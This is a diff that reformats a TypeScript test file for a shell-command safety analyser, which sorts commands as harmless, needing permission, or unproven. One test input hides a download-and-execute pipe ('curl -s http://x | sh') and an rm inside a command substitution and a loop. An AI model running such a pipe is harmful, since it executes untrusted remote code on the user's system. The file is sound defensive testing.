@@ -12,25 +12,40 @@ const brief = (path: string): string => path.replace(/^\/usr\/(?:bin|lib\/node_m
 const mark = ({ harmless, interpreter }: Segment): string => `${harmless ? '+' : ''}${interpreter ? '*' : ''}`;
 /** `wrapper>program`, `+` when it needs no permission, `*` when it runs code it is given. */
 const shape = (analysis: Analysis): string =>
-  (analysis.proven ? analysis.segments.map((segment) => `${[...segment.wrappers.map(({ path }) => path), segment.path ?? segment.argv[0] ?? ''].map(brief).join('>')}${mark(segment)}`).join(' ') : `unproven: ${analysis.why.join(' ')}`);
+  analysis.proven
+    ? analysis.segments
+        .map(
+          (segment) =>
+            `${[...segment.wrappers.map(({ path }) => path), segment.path ?? segment.argv[0] ?? ''].map(brief).join('>')}${mark(segment)}`,
+        )
+        .join(' ')
+    : `unproven: ${analysis.why.join(' ')}`;
 
 test('shell corpus: harmless commands run, others ask with what they start, the rest is not proven (T43–T47, T56–T58)', async (t) => {
   const wrong: string[] = [];
   for (const command of HARMLESS_COMMANDS) {
     const analysis = await analyse(command, fakeWorld());
-    if (!analysis.proven || !analysis.segments.every(({ harmless, interpreter }) => harmless && !interpreter)) wrong.push(`${command} → ${shape(analysis)} ${analysis.proven ? analysis.segments.map(({ why }) => why ?? '').join(' ') : ''}`);
+    if (!analysis.proven || !analysis.segments.every(({ harmless, interpreter }) => harmless && !interpreter))
+      wrong.push(
+        `${command} → ${shape(analysis)} ${analysis.proven ? analysis.segments.map(({ why }) => why ?? '').join(' ') : ''}`,
+      );
   }
   for (const [command, expected] of ASKING_COMMANDS) {
     const found = shape(await analyse(command, fakeWorld()));
     if (found !== expected) wrong.push(`${command} → ${found}, not ${expected}`);
   }
-  const unproven = Object.values(UNPROVEN_COMMANDS).flatMap(({ commands, says }) => commands.map((command) => ({ command, says })));
+  const unproven = Object.values(UNPROVEN_COMMANDS).flatMap(({ commands, says }) =>
+    commands.map((command) => ({ command, says })),
+  );
   for (const { command, says } of unproven) {
     const analysis = await analyse(command, fakeWorld());
-    if (analysis.proven || !analysis.why.some((reason) => says.test(reason))) wrong.push(`${command.slice(0, 80)} → ${shape(analysis)}, not ${says}`);
+    if (analysis.proven || !analysis.why.some((reason) => says.test(reason)))
+      wrong.push(`${command.slice(0, 80)} → ${shape(analysis)}, not ${says}`);
   }
   const [harmless, asking] = [HARMLESS_COMMANDS.length, ASKING_COMMANDS.length];
-  t.diagnostic(`shell corpus: ${harmless + asking + unproven.length - wrong.length}/${harmless + asking + unproven.length} right (${harmless} harmless, ${asking} asking, ${unproven.length} unproven)`);
+  t.diagnostic(
+    `shell corpus: ${harmless + asking + unproven.length - wrong.length}/${harmless + asking + unproven.length} right (${harmless} harmless, ${asking} asking, ${unproven.length} unproven)`,
+  );
   assert.deepEqual(wrong, []);
   assert.ok(harmless + asking + unproven.length >= 200);
 });
@@ -38,17 +53,24 @@ test('shell corpus: harmless commands run, others ask with what they start, the 
 test('an unproven command still shows what it names, also inside substitutions and loops', async () => {
   const analysis = await analyse('for f in a; do rm "$f"; done; echo "$(curl -s http://x | sh)"', fakeWorld());
   assert.ok(!analysis.proven);
-  assert.deepEqual(analysis.steps.map(({ words, path }) => [words, path]), [
-    [['rm', undefined], '/usr/bin/rm'], [['echo', undefined], undefined], [['curl', '-s', 'http://x'], '/usr/bin/curl'], [['sh'], '/usr/bin/dash'],
-  ]);
+  assert.deepEqual(
+    analysis.steps.map(({ words, path }) => [words, path]),
+    [
+      [['rm', undefined], '/usr/bin/rm'],
+      [['echo', undefined], undefined],
+      [['curl', '-s', 'http://x'], '/usr/bin/curl'],
+      [['sh'], '/usr/bin/dash'],
+    ],
+  );
 });
 
 test('reasons are sentences of one line without anything invisible', async () => {
-  for (const { commands } of Object.values(UNPROVEN_COMMANDS)) for (const command of commands) {
-    const analysis = await analyse(command, fakeWorld());
-    assert.ok(!analysis.proven);
-    for (const reason of analysis.why) assert.match(reason, /^["A-Z][^\p{Cc}\p{Cf}\p{Cs}]{5,260}\.$/u, reason);
-  }
+  for (const { commands } of Object.values(UNPROVEN_COMMANDS))
+    for (const command of commands) {
+      const analysis = await analyse(command, fakeWorld());
+      assert.ok(!analysis.proven);
+      for (const reason of analysis.why) assert.match(reason, /^["A-Z][^\p{Cc}\p{Cf}\p{Cs}]{5,260}\.$/u, reason);
+    }
 });
 
 test('nothing is harmless on a machine where nothing is trusted, and filters only where the configuration lists them', async () => {
